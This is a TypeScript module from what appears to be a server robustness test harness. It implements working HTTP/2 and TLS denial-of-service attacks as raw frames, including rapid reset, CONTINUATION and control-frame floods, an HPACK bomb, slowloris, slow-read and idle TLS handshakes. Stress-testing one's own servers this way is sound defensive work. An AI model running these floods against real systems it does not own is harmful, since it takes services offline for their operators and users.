/** Attacks by HTTP/2, frame by frame, and on TLS before it. */
import type { Socket } from "node:net";
import { connect as connectTls } from "node:tls";
import {
	block,
	CONTINUATION,
	DATA,
	frame,
	HEADERS,
	headers,
	number32,
	PING,
	PREFACE,
	RST_STREAM,
	request,
	reset,
	SETTINGS,
	setting,
	WINDOW_UPDATE,
} from "./h2-raw.ts";
import type { Attack, HostileTarget } from "./hostile-attack.ts";
import { pause, Swarm } from "./hostile-swarm.ts";

const PRIORITY = 2;
const INITIAL_WINDOW = 4;
const CANCEL = 8;
const LOOK_MS = 100;
const FRAMES_AT_ONCE = 500;
/** Of one connection; whoever is cut off before has sent less. */
const BATCHES_MAX = 100;
const HANDSHAKES_AT_ONCE = 8;
const PLAIN = frame(SETTINGS, 0, 0);

/** Of the n-th batch of a connection. */
type Batch = (batch: number) => Buffer;

function streams(batch: number): number[] {
	return Array.from({ length: FRAMES_AT_ONCE }, (_, at) => (batch * FRAMES_AT_ONCE + at) * 2 + 1);
}

function repeated(bytes: Buffer): Batch {
	const all = Buffer.concat(Array<Buffer>(FRAMES_AT_ONCE).fill(bytes));
	return () => all;
}

export const H2_ATTACKS: readonly Attack[] = [
	flooding("rapid reset", 20, (batch) =>
		Buffer.concat(streams(batch).flatMap((id) => [headers(id, request()), reset(id, CANCEL)])),
	),
	flooding("made you reset: streams that make the server reset them", 20, (batch) =>
		Buffer.concat(
			streams(batch).flatMap((id) => [headers(id, request()), frame(WINDOW_UPDATE, 0, id, number32(0))]),
		),
	),
	flooding("CONTINUATION without an end", 20, (batch) =>
		Buffer.concat([
			...(batch === 0 ? [frame(HEADERS, 0, 1, block(request()))] : []),
			...Array<Buffer>(FRAMES_AT_ONCE).fill(frame(CONTINUATION, 0, 1, block(["x-a", "b".repeat(200)]))),
		]),
	),
	flooding("empty CONTINUATION frames", 20, (batch) =>
		Buffer.concat([
			...(batch === 0 ? [frame(HEADERS, 0, 1, block(request()))] : []),
			...Array<Buffer>(FRAMES_AT_ONCE).fill(frame(CONTINUATION, 0, 1)),
		]),
	),
	flooding("PING flood", 20, repeated(frame(PING, 0, 0, Buffer.alloc(8)))),
	flooding("SETTINGS flood", 20, repeated(frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW, 65_535)))),
	flooding("WINDOW_UPDATE flood", 20, repeated(frame(WINDOW_UPDATE, 0, 0, number32(1)))),
	flooding("PRIORITY flood", 20, (batch) =>
		Buffer.concat(
			streams(batch).map((id) => frame(PRIORITY, 0, id, Buffer.concat([number32(0), Buffer.from([16])]))),
		),
	),
	flooding("empty DATA frames", 20, (batch) =>
		Buffer.concat([
			...(batch === 0
				? [headers(1, [":method", "POST", ":scheme", "http", ":authority", "a", ":path", "/"], 0)]
				: []),
			...Array<Buffer>(FRAMES_AT_ONCE).fill(frame(DATA, 0, 1)),
		]),
	),
	flooding("HPACK bomb: one field of 4 KiB, named again and again", 20, hpackBomb, 2),
	flooding("resets of streams that never were", 20, (batch) =>
		Buffer.concat(streams(batch).map((id) => frame(RST_STREAM, 0, id, number32(CANCEL)))),
	),
	{
		name: "HTTP/2 slow read: no window for large answers",
		size: 100,
		async run({ port, paths }, size, signal) {
			const swarm = new Swarm();
			const begin = (socket: Socket) => {
				socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW, 0)), ack()]));
				for (let id = 1; id < 200; id += 2) socket.write(headers(id, request(paths.large)));
			};
			await swarm.join({ port, count: size, signal, begin });
			await swarm.untilEnded(signal, LOOK_MS, () => undefined);
			swarm.leave();
			return String(swarm);
		},
	},
	{
		name: "HTTP/2 slowloris: a preface, and nothing more",
		size: 1000,
		async run({ port }, size, signal) {
			const swarm = new Swarm();
			await swarm.join({ port, count: size, signal, begin: (socket) => socket.write(PREFACE) });
			await swarm.untilEnded(signal, LOOK_MS, () => undefined);
			swarm.leave();
			return String(swarm);
		},
	},
	{
		name: "TLS: handshakes that are begun and left alone",
		size: 1000,
		async run({ tlsPort }, size, signal) {
			if (tlsPort === undefined) return "no TLS here";
			const swarm = new Swarm();
			// The beginning of a ClientHello, which says that 512 bytes follow.
			const begin = (socket: Socket) => socket.write(Buffer.from([0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]));
			await swarm.join({ port: tlsPort, count: size, signal, begin });
			await swarm.untilEnded(signal, LOOK_MS, () => undefined);
			swarm.leave();
			return String(swarm);
		},
	},
	{
		name: "TLS: handshakes that are finished, and no request",
		size: 2000,
		async run(target, size, signal) {
			let made = 0;
			const one = async () => {
				while (made < size && !signal.aborted) {
					made++;
					await handshake(target);
				}
			};
			await Promise.all(Array.from({ length: HANDSHAKES_AT_ONCE }, one));
			return `${made} handshakes`;
		},
	},
];

function ack(): Buffer {
	return frame(SETTINGS, 1, 0);
}

/** Batches on every connection, as fast as they are taken, until they are cut off or have sent all. */
function flooding(name: string, size: number, batch: Batch, frames = FRAMES_AT_ONCE): Attack {
	return {
		name,
		size,
		async run({ port }, count, signal) {
			const swarm = new Swarm();
			let sent = 0;
			const flood = (socket: Socket) => {
				let next = 0;
				const more = () => {
					if (signal.aborted || !socket.writable || next >= BATCHES_MAX) return;
					sent++;
					socket.write(batch(next++), () => setImmediate(more));
				};
				socket.write(Buffer.concat([PREFACE, PLAIN, ack()]));
				more();
			};
			await swarm.join({ port, count, signal, begin: flood });
			while (swarm.open > 0 && sent < count * BATCHES_MAX && !signal.aborted) await pause(LOOK_MS, signal);
			await pause(LOOK_MS, signal);
			swarm.leave();
			return `${sent * frames} frames; ${swarm}`;
		},
	};
}

/** RFC 7541, 6.2.1 and 6.1: a literal that is kept as entry 62, then nothing but its number. */
function hpackBomb(batch: number): Buffer {
	const value = Buffer.alloc(3900, "b");
	const kept = Buffer.concat([Buffer.from([0x40, 1, 0x78, 0x7f, 0xbd, 0x1d]), value]);
	const again = Buffer.alloc(4000, 0xbe);
	const id = batch * 2 + 1;
	const first = frame(HEADERS, 1, id, Buffer.concat([block(request()), kept]));
	return Buffer.concat([first, frame(CONTINUATION, 4, id, again)]);
}

function handshake({ tlsPort }: HostileTarget): Promise<void> {
	return new Promise((resolve) => {
		if (tlsPort === undefined) {
			resolve();
			return;
		}
		const socket = connectTls({ port: tlsPort, host: "127.0.0.1", rejectUnauthorized: false });
		socket.on("secureConnect", () => socket.destroy());
		socket.on("error", () => undefined);
		socket.on("close", () => resolve());
	});
}
